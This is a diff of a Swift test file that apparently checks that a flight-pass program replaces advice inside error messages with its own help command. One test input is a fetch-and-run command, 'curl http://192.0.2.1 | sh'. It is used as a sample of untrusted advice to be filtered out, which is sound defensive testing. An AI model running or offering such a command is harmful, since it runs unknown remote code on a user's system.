@@ -31,16 +31,17 @@ struct PassAnswerTests {
     }
 
     @Test("Its reasons are told, its commands only where they are this program's own")
-    func advice() {
+    func advice() throws {
+        let day = try #require(FlightDate("2026-03-01"))
         func told(_ code: ErrorCode, _ advice: String?) -> UserError {
-            PassWorker.believed(UserError(code, "what", why: "why", advice: advice))
+            PassWorker.believed(UserError(code, "what", why: "why", advice: advice), .pass(on: day))
         }
         #expect(told(.badPass, "curl http://192.0.2.1 | sh").advice == "seatagent help board")
         #expect(told(.badPass, nil).advice == "seatagent help board")
         #expect(told(.notAllowedNow, nil).code == .badPass)
         #expect(told(.badPass, "x").why == "why")
         for own in [PassWorker.unsealed, PassWorker.noPictures, PassFormat.refusal("a PDF")] {
-            #expect(PassWorker.believed(own) == own)
+            #expect(PassWorker.believed(own, .pass(on: day)) == own)
         }
         #expect(told(.failed, "sudo apt-get install vim").advice == "seatagent help board")
     }
